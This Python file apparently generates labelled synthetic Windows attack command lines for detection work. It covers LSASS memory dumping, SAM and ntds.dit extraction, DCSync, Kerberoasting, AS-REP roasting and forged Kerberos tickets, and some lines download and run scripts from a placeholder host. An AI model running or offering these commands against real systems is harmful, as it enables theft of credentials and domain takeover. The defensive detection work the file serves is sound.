"""Commands that take passwords, hashes and tickets from memory, hives, the directory and Kerberos."""

from __future__ import annotations

from generator.families.windows.commands_told import PROMPT, STRANGE, told
from generator.scene import attack

ANYBODY = PROMPT + STRANGE[:7]


def theft(*techniques: str, severity: str = "CRITICAL"):
    return attack("Credential Theft", *techniques, severity=severity)


def directory(*techniques: str, severity: str = "CRITICAL"):
    return attack("Kerberos or Directory Attack", *techniques, severity=severity)


told("credential-memory-of-lsass", theft("T1003.001"), r"""
@tmp@mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit
@tmp@@word@.exe privilege::debug sekurlsa::logonpasswords full exit ## mimikatz.exe
@tmp@@word@.exe "log @word@.txt" "token::elevate" "sekurlsa::wdigest" "sekurlsa::tspkg" exit
@tmp@mimikatz.exe "sekurlsa::minidump @tmp@lsass.dmp" "sekurlsa::ekeys" exit
powershell -nop -ep bypass -c "IEX (iwr @url@/Invoke-Mimikatz.ps1 -useb); Invoke-Mimikatz -DumpCreds"
powershell -ep bypass -c "Import-Module .\Out-Minidump.ps1; Get-Process lsass | Out-Minidump -DumpFilePath C:\Windows\Temp"
rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump @pid@ @tmp@@word@.dmp full
rundll32 comsvcs.dll,#24 @pid@ C:\Users\Public\@word@.log full
rundll32.exe comsvcs.dll #+000024 @pid@ C:\ProgramData\@word@.bin full
powershell -c "rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id $env:TEMP\@word@.dmp full"
cmd /c copy C:\Windows\System32\comsvcs.dll @tmp@@word@.dll & rundll32 @tmp@@word@.dll,MiniDump @pid@ @tmp@@word@.tmp full
@tmp@procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\@word@.dmp
@tmp@@word@.exe -accepteula -mm @pid@ @tmp@@word@.dmp ## procdump
@tmp@procdump.exe -accepteula -r -ma «lsass|lsass.exe|lsa» @word@
@tmp@sqldumper.exe @pid@ 0 0x01100:40
"C:\Program Files\Microsoft SQL Server\140\Shared\SqlDumper.exe" @pid@ 0 0x0110 0 C:\Windows\Temp
@tmp@createdump.exe -f @tmp@@word@.dmp -u @pid@ -n lsass
"C:\Program Files\dotnet\shared\Microsoft.NETCore.App\6.0.8\createdump.exe" -u -f C:\Users\Public\lsass.dmp @pid@
rdrleakdiag.exe /p @pid@ /o @tmp@ /fullmemdmp /wait 1
tttracer.exe -dumpFull -attach @pid@
@tmp@avdump.exe --pid @pid@ --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\Windows\Temp\@word@.dmp
@tmp@nanodump.exe --fork --write C:\Windows\Temp\@word@.docx
@tmp@handlekatz.exe --pid:@pid@ --outfile:@tmp@@word@.obf
@tmp@Dumpert.exe
rundll32.exe @tmp@Outflank-Dumpert.dll,Dump
@tmp@SharpDump.exe & @tmp@SafetyKatz.exe
@tmp@PPLdump64.exe -v lsass @tmp@@word@.dmp
@tmp@PPLBlade.exe --mode dump --name lsass.exe --handle procexp --obfuscate --dumpmode network --network raw --ip @pub@ --port @port@
@tmp@xordump.exe -out @tmp@@word@.dmp -x 0x41
@tmp@pypykatz.exe live lsa
@tmp@lsassy.exe -u @user@ -p @pw@ -d @domain@ @ip@
@tmp@nxc.exe smb @ip@ -u @user@ -p @pw@ -M lsassy
@tmp@wce.exe -w
@tmp@fgdump.exe & @tmp@gsecdump.exe -a
@tmp@SharpKatz.exe --Command logonpasswords
@tmp@KernelKatz.exe & @tmp@BetterSafetyKatz.exe sekurlsa::logonpasswords
@tmp@taskmgr.exe & powershell -c "(Get-Process lsass).Id"
@tmp@mimikatz.exe "!+" "!processprotect /process:lsass.exe /remove" "misc::memssp" exit
reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v DumpType /t REG_DWORD /d 2 /f
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2, weight=1.5)

told("credential-local-hives", theft("T1003.002", "T1003.004"), r"""
reg save HKLM\SAM @tmp@@word@.hiv
reg.exe save hklm\sam C:\Users\Public\s & reg save hklm\system C:\Users\Public\y
reg save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
reg export HKLM\sam @tmp@sam.reg
reg save \\@host@\HKLM\SAM C:\ProgramData\@word@
powershell -c "reg save HKLM\SAM $env:TEMP\@word@; reg save HKLM\SYSTEM $env:TEMP\@word@"
esentutl.exe /y /vss C:\Windows\System32\config\SAM /d @tmp@@word@
cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy@n@\Windows\System32\config\SAM C:\Windows\Temp\@word@
cmd.exe /c type \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SYSTEM > @tmp@@word@
certutil -f -v -encodehex "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM" @tmp@@word@ 2
powershell -c "[System.IO.File]::Copy('\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM','@tmp@@word@')"
@tmp@RawCopy64.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:C:\Users\Public
@tmp@HiveNightmare.exe
@tmp@mimikatz.exe "token::elevate" "lsadump::sam" exit
@tmp@@word@.exe "lsadump::sam /system:sys.hiv /sam:sam.hiv" exit ## mimikatz.exe
@tmp@pwdump8.exe & @tmp@PwDump7.exe > @tmp@@word@.txt
@tmp@samdump2.exe SYSTEM SAM
@tmp@secretsdump.exe -sam @tmp@sam -system @tmp@system LOCAL
python.exe secretsdump.py -sam sam.save -system system.save -security security.save LOCAL
@tmp@crackmapexec.exe smb @ip@ -u @user@ -p @pw@ --sam
powershell -ep bypass -c "Import-Module .\Invoke-PowerDump.ps1; Invoke-PowerDump"
powershell -nop -c "Get-PassHashes | Out-File C:\Users\Public\@word@.txt"
@tmp@SharpSecDump.exe -target=@ip@ -u=@user@ -p=@pw@ -d=@domain@
wmic shadowcopy call create Volume='C:\' & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM @tmp@
""", parents=ANYBODY, users=(None, "SYSTEM"), most=3, weight=1.2)

told("credential-directory-database", theft("T1003.003"), r"""
ntdsutil "ac i ntds" "ifm" "create full C:\«temp|Windows\Temp|PerfLogs|ProgramData»\@word@" q q
ntdsutil.exe "activate instance ntds" ifm "create full C:\Users\Public\@word@" quit quit
powershell ntdsutil.exe 'ac i ntds' 'ifm' 'create full c:\temp' q q
ntdsutil snapshot "activate instance ntds" create "mount {@guid@}" quit quit
cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy@n@\Windows\NTDS\ntds.dit C:\Windows\Temp\@word@.tmp
cmd.exe /c copy "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit" \\@ip@\c$\Users\Public
vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\windows\ntds\ntds.dit @tmp@
cmd /c mklink /d C:\@word@ \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\ & copy C:\@word@\Windows\NTDS\ntds.dit @tmp@
diskshadow.exe /s C:\Users\Public\@word@.txt & robocopy /b z:\windows\ntds C:\Users\Public ntds.dit
esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\ProgramData\@word@.dit
esentutl /p /o C:\Windows\Temp\ntds.dit
wmic /node:@dc@ /user:@domain@\@user@ /password:@pw@ process call create "cmd /c vssadmin create shadow /for=C: 2>&1 > C:\temp\@word@.log"
wmic process call create "ntdsutil \"ac i ntds\" ifm \"create full C:\Windows\Temp\pro\" q q"
wbadmin start backup -backuptarget:\\127.0.0.1\c$\@word@\ -include:C:\Windows\NTDS\NTDS.dit,C:\Windows\System32\config\SYSTEM -quiet
wbadmin start recovery -version:01/01/@year@-03:00 -itemtype:file -items:C:\Windows\NTDS\ntds.dit -recoverytarget:C:\Users\Public -notRestoreAcl -quiet
powershell -ep bypass -c "Import-Module .\Copy-VSS.ps1; Copy-VSS -DestinationDir C:\ProgramData\@word@"
powershell -nop -c "Invoke-NinjaCopy -Path C:\Windows\NTDS\ntds.dit -LocalDestination C:\Windows\Temp\@word@.dit"
powershell -c "Get-ADDBAccount -All -DBPath .\ntds.dit -BootKey @hex@ | Format-Custom -View HashcatNT"
@tmp@NTDSDumpEx.exe -d @tmp@ntds.dit -s @tmp@SYSTEM -o hash.txt
@tmp@secretsdump.exe -ntds ntds.dit -system SYSTEM LOCAL -outputfile @word@
@tmp@esedbexport.exe -m tables ntds.dit
@tmp@nxc.exe smb @dc@ -u @user@ -p @pw@ --ntds vss
@tmp@vssown.vbs /create C
cscript vssown.vbs /start & cscript vssown.vbs /create c
@tmp@quarkspwdump.exe --dump-hash-domain --ntds-file ntds.dit
""", parents=ANYBODY + ("WmiPrvSE.exe", "wsmprovhost.exe"), users=(None, "SYSTEM"), most=3, weight=1.2)

told("credential-secrets-of-services", theft("T1003.004", "T1003.002"), r"""
reg save HKLM\SECURITY @tmp@@word@.hiv
reg.exe save hklm\security C:\Users\Public\@word@.dat /y
reg export HKLM\SECURITY\Policy\Secrets C:\Windows\Temp\@word@.reg
@tmp@PsExec.exe -accepteula -s reg save HKLM\security\policy\secrets @tmp@secrets /y
@tmp@mimikatz.exe "privilege::debug" "token::elevate" "lsadump::secrets" exit
@tmp@@word@.exe "lsadump::cache" "lsadump::secrets" exit ## mimikatz.exe
@tmp@gsecdump.exe -l > @tmp@@word@.txt
@tmp@lsadump2.exe & @tmp@cachedump.exe -v
@tmp@secretsdump.exe -security security.hiv -system system.hiv LOCAL
@tmp@nxc.exe smb @ip@ -u @user@ -p @pw@ --lsa
powershell -ep bypass -c "Import-Module .\Get-LSASecret.ps1; Enable-TSDuplicateToken; Get-LSASecret"
powershell -nop -c "reg save HKLM\SECURITY C:\ProgramData\@word@ /y; Compress-Archive C:\ProgramData\@word@ C:\Users\Public\@word@.zip"
@tmp@SharpDPAPI.exe machinetriage
@tmp@LaZagne.exe windows -oN -output @tmp@
@tmp@NirSoft\LSASecretsView.exe /stext @tmp@@word@.txt
@tmp@veeam-get-creds.exe & powershell -ep bypass -f @tmp@Veeam-Get-Creds.ps1
sqlcmd -S localhost\VEEAMSQL2016 -E -Q "SELECT user_name,password FROM [VeeamBackup].[dbo].[Credentials]" -o @tmp@@word@.txt
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2)

told("credential-replication-forged", directory("T1003.006", "T1558.001"), r"""
@tmp@mimikatz.exe "lsadump::dcsync /domain:@fqdn@ /user:krbtgt" exit
@tmp@@word@.exe "lsadump::dcsync /all /csv" exit ## mimikatz.exe
@tmp@@word@.exe "lsadump::dcsync /dc:@dc@ /user:@domain@\Administrator /authuser:@user@ /authpassword:@pw@" exit
powershell -ep bypass -c "Invoke-Mimikatz -Command '\"lsadump::dcsync /user:@domain@\krbtgt\"'"
powershell -c "Import-Module DSInternals; Get-ADReplAccount -All -Server @dc@ -NamingContext 'DC=@company@,DC=local'"
powershell -ep bypass -c ". .\Invoke-DCSync.ps1; Invoke-DCSync -DumpForest -PWDumpFormat"
@tmp@SharpKatz.exe --Command dcsync --User krbtgt --Domain @fqdn@ --DomainController @dc@
@tmp@secretsdump.exe -just-dc @domain@/@user@:@pw@@@dc@
python.exe secretsdump.py -just-dc-ntlm -just-dc-user krbtgt @fqdn@/administrator@@ip@ -hashes :@hex@@hex@@hex@
@tmp@nxc.exe smb @dc@ -u administrator -H @hex@@hex@@hex@ --ntds drsuapi
@tmp@SafetyKatz.exe "lsadump::dcsync /user:@domain@\krbtgt" exit
@tmp@Certipy.exe find -u @user@@@fqdn@ -p @pw@ -dc-ip @ip@ & @tmp@secretsdump.exe -k -no-pass @dc@ -just-dc
powershell -ep bypass -c "Add-DomainObjectAcl -TargetIdentity 'DC=@company@,DC=local' -PrincipalIdentity @user@ -Rights DCSync"
@tmp@mimikatz.exe "lsadump::dcshadow /object:@user@ /attribute:primaryGroupID /value:512" exit
@tmp@SharpSploitConsole.exe DCSync @user@ @fqdn@ @dc@
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2)

told("credential-service-tickets-roasted", directory("T1558.003", severity="HIGH"), r"""
@tmp@Rubeus.exe kerberoast /stats
@tmp@Rubeus.exe kerberoast /outfile:C:\Users\Public\@word@.txt /nowrap
@tmp@@word@.exe kerberoast /creduser:@domain@\@user@ /credpassword:@pw@ /format:hashcat ## Rubeus.exe
@tmp@@word@.exe kerberoast /ldapfilter:'admincount=1' /rc4opsec
powershell -ep bypass -c "Import-Module .\PowerView.ps1; Invoke-Kerberoast -OutputFormat Hashcat | % Hash | Out-File @tmp@@word@.txt"
powershell -nop -c "iex(iwr @url@/Invoke-Kerberoast.ps1 -useb); Invoke-Kerberoast | fl"
powershell -c "Add-Type -AssemblyName System.IdentityModel; setspn.exe -T @fqdn@ -Q */* | Select-String '^CN' -Context 0,1 | % {New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim()}"
setspn -T @fqdn@ -Q */*
setspn.exe -F -Q */* > @tmp@@word@.txt
cscript.exe @tmp@GetUserSPNs.vbs
powershell -ep bypass -f @tmp@GetUserSPNs.ps1
@tmp@GetUserSPNs.exe -request -dc-ip @ip@ @fqdn@/@user@:@pw@ -outputfile @word@.txt
python.exe GetUserSPNs.py @fqdn@/@user@:@pw@ -dc-ip @ip@ -request
@tmp@nxc.exe ldap @dc@ -u @user@ -p @pw@ --kerberoasting @word@.txt
@tmp@SharpRoast.exe all
@tmp@mimikatz.exe "kerberos::ask /target:MSSQLSvc/@host@.@fqdn@:1433" "kerberos::list /export" exit
@tmp@kerbrute.exe userenum -d @fqdn@ --dc @dc@ users.txt
@tmp@StandIn.exe --spn
@tmp@adfind.exe -f "(&(objectCategory=user)(servicePrincipalName=*))" servicePrincipalName
@tmp@hashcat.exe -m 13100 @word@.txt rockyou.txt -O
""", parents=ANYBODY, most=2, weight=1.2)

told("credential-accounts-without-preauth", directory("T1558.004", severity="HIGH"), r"""
@tmp@Rubeus.exe asreproast /format:hashcat /outfile:@tmp@@word@.txt
@tmp@@word@.exe asreproast /user:@user@ /domain:@fqdn@ /dc:@dc@ /nowrap ## Rubeus.exe
powershell -ep bypass -c "Import-Module .\ASREPRoast.ps1; Invoke-ASREPRoast -Verbose | fl"
powershell -nop -c ". .\PowerView.ps1; Get-DomainUser -PreauthNotRequired -Properties distinguishedname | Out-File C:\ProgramData\@word@.txt"
powershell -ep bypass -c "Get-ASREPHash -UserName @user@ -Domain @fqdn@"
@tmp@GetNPUsers.exe @fqdn@/ -usersfile users.txt -no-pass -dc-ip @ip@ -format hashcat
python.exe GetNPUsers.py @fqdn@/@user@:@pw@ -request -outputfile @word@.txt
@tmp@nxc.exe ldap @dc@ -u users.txt -p '' --asreproast @word@.txt
@tmp@crackmapexec.exe ldap @ip@ -u @user@ -p @pw@ --asreproast out.txt
@tmp@StandIn.exe --asrep
@tmp@kerbrute_windows_amd64.exe userenum --dc @ip@ -d @fqdn@ --downgrade names.txt
@tmp@AdFind.exe -f "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" samaccountname
powershell -c "Set-ADAccountControl -Identity @user@ -DoesNotRequirePreAuth $true; .\Rubeus.exe asreproast /user:@user@"
""", parents=ANYBODY, most=2)

told("credential-tickets-forged-and-injected", directory("T1558.001", "T1550.002"), r"""
@tmp@mimikatz.exe "kerberos::golden /user:@user@ /domain:@fqdn@ /sid:S-1-5-21-@port@@port@-@port@@port@-@port@@port@ /krbtgt:@hex@@hex@@hex@ /ptt" exit
@tmp@@word@.exe "kerberos::golden /user:Administrator /domain:@fqdn@ /sid:S-1-5-21-@port@@port@ /aes256:@hex@@hex@@hex@@hex@ /ticket:@word@.kirbi" exit ## mimikatz.exe
@tmp@@word@.exe "kerberos::golden /service:cifs /target:@host@.@fqdn@ /rc4:@hex@@hex@@hex@ /user:@user@ /sids:S-1-5-21-@port@-519 /ptt"
@tmp@@word@.exe "kerberos::ptt C:\Users\Public\@word@.kirbi" exit
@tmp@Rubeus.exe golden /rc4:@hex@@hex@@hex@ /domain:@fqdn@ /sid:S-1-5-21-@port@@port@ /user:administrator /printcmd /ptt
@tmp@Rubeus.exe silver /service:cifs/@host@.@fqdn@ /rc4:@hex@@hex@@hex@ /user:@user@ /ptt
@tmp@Rubeus.exe diamond /tgtdeleg /ticketuser:@user@ /ticketuserid:@port@ /groups:512 /krbkey:@hex@@hex@@hex@
@tmp@Rubeus.exe ptt /ticket:@hex@@hex@@hex@
@tmp@Rubeus.exe dump /service:krbtgt /nowrap
@tmp@Rubeus.exe monitor /interval:5 /filteruser:@dc@$ /nowrap
@tmp@Rubeus.exe s4u /user:@host@$ /rc4:@hex@@hex@@hex@ /impersonateuser:administrator /msdsspn:cifs/@host@.@fqdn@ /ptt
powershell -ep bypass -c "Invoke-Mimikatz -Command '\"kerberos::golden /user:@user@ /domain:@fqdn@ /krbtgt:@hex@@hex@@hex@ /ptt\"'"
@tmp@ticketer.exe -nthash @hex@@hex@@hex@ -domain-sid S-1-5-21-@port@@port@ -domain @fqdn@ administrator
python.exe ticketer.py -aesKey @hex@@hex@@hex@@hex@ -domain-sid S-1-5-21-@port@@port@ -domain @fqdn@ -extra-sid S-1-5-21-@port@-519 @user@
@tmp@kekeo.exe "tgt::ask /user:@user@ /domain:@fqdn@ /ntlm:@hex@@hex@@hex@" exit
@tmp@raiseChild.exe @fqdn@/@user@:@pw@
@tmp@Certify.exe request /ca:@dc@\@company@-CA /template:User /altname:administrator
@tmp@Whisker.exe add /target:@dc@$ /domain:@fqdn@ /dc:@dc@
@tmp@KrbRelayUp.exe relay -Domain @fqdn@ -CreateNewComputerAccount -ComputerName @word@$ -ComputerPassword @pw@
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2)
